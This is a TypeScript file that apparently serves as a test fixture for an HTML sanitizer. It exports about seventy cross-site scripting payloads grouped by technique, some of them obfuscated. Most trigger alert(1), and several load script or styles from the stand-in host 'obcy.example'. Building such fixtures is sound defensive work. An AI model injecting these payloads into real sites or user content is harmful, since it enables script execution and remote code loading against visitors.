// Attempts to make a text run as a script, each by another way in. One that works calls `alert`, or asks `obcy.example`
// for something.
export const FOREIGN_HOST = 'obcy.example'

const ELEMENTS = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//obcy.example/x.js></sCrIpT>',
  '<script\x20type="text/javascript">alert(1);</script>',
  '<script/x>alert(1)</script/x>',
  '<<script>alert(1);//<</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script type="module">import "https://obcy.example/x.js"</script>',
  '<script>/*<![CDATA[*/alert(1)/*]]>*/</script>',
]

const HANDLERS = [
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="&#97;lert(1)">',
  '<img/src=`x`onerror=alert(1)>',
  '<img src=x:x onerror\x0C=\x0Calert(1)//',
  '<img """><script>alert(1)</script>">',
  '<img srcset="https://obcy.example/a.png 1x" src="https://obcy.example/b.png">',
  '<body onload=alert(1)>',
  '<p onclick=alert(1) onmouseover=alert(1) onfocus=alert(1) tabindex=0 autofocus>x</p>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>x',
  '<video><source onerror="alert(1)"></video>',
  '<audio src=x onerror=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<a href=# onpointerenter=alert(1) onanimationstart=alert(1) style="animation:x 1s">x</a>',
  '<div popover id=p onbeforetoggle=alert(1)>x</div><button popovertarget=p>x</button>',
]

const FOREIGN_MARKUP = [
  '<svg onload=alert(1)>',
  '<svg><script>alert&lpar;1&rpar;</script></svg>',
  '<svg><animate attributeName=href values=javascript:alert(1) /><a id=x><text y=20>x</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=1 onerror=alert(1) /></svg>#x"/></svg>',
  '<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math href="javascript:alert(1)">x</math>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
]

const DOCUMENTS = [
  '<style>@import "https://obcy.example/x.css";*{background:url(https://obcy.example/y)}</style>',
  '<p style="background:url(https://obcy.example/z);position:fixed;inset:0">x</p>',
  '<link rel=stylesheet href=https://obcy.example/x.css>',
  '<base href=https://obcy.example/>',
  '<meta http-equiv=refresh content="0;url=https://obcy.example/">',
  '<iframe src=javascript:alert(1)></iframe>',
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="https://obcy.example/x.swf">',
  '<form action=https://obcy.example/><button formaction=javascript:alert(1)>x</button></form>',
  '<dialog open><button command=show-modal commandfor=menu>x</button></dialog>',
]

const LINKS = [
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVa&#x09;Script&colon;alert(1)">x</a>',
  '<a href="&#x6A;avascript:alert(1)">x</a>',
  '<a href=" \x01javascript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="https://x.example/&quot; onclick=alert(1) x=&quot;" target=_blank>x</a>',
  '\u200bjavascript:alert(1)//<a href="jаvascript:alert(1)">x</a>',
]

const MUTATIONS = [
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template><p is=x>x</p>',
  '<textarea><script>alert(1)</script></textarea/><img src=x onerror=alert(1)>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!-- --!><img src=x onerror=alert(1)> -->',
  '<![CDATA[><img src=x onerror=alert(1)>]]>',
  ']]><script xmlns="http://www.w3.org/1999/xhtml">alert(1)</script><![CDATA[ ]]>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
  '<title></title><img src=x onerror=alert(1)></title>',
  '<select><style></select><img src=x onerror=alert(1)></style>',
  '<?xml version="1.0"?><img src=x onerror=alert(1)?>',
  '\ufe64script\ufe65alert(1)\ufe64/script\ufe65 \uff1cimg src=x onerror=alert(1)\uff1e',
]

const TABLES = [
  '<table background=//obcy.example/x.png><tr><td colspan=2 onclick=alert(1) style="background:url(//obcy.example/y)">x</td></tr></table>',
  '<table><caption><img src=x onerror=alert(1)></caption><td><style></td></style><img src onerror=alert(1)></table>',
  '<table><tr><th scope="col onmouseover=alert(1)" rowspan="1e9"><table><script>alert(1)</script></table></th></tr></table>',
]

const TEMPLATES = [
  '${alert(1)}`${alert(1)}`{{constructor.constructor("alert(1)")()}}',
  '"><script>alert(1)</script>',
  "'-alert(1)-'\\'-alert(1)//",
  '</title></script></style></textarea><script>alert(1)</script>',
  '&lt;script&gt;alert(1)&lt;/script&gt;&amp;lt;img src=x onerror=alert(1)&amp;gt;',
  '%3Cscript%3Ealert(1)%3C/script%3E\\u003cscript\\u003ealert(1)\\x3c/script\\x3e',
]

const WAYS: readonly (readonly string[])[] = [ELEMENTS, HANDLERS, FOREIGN_MARKUP, DOCUMENTS, LINKS, MUTATIONS, TABLES, TEMPLATES]

export const INJECTIONS: readonly string[] = WAYS.flat()
export const A_FEW_OF_EACH_WAY: readonly string[] = WAYS.flatMap((way) => [way[0], way.at(-1)].filter((attempt) => attempt !== undefined))
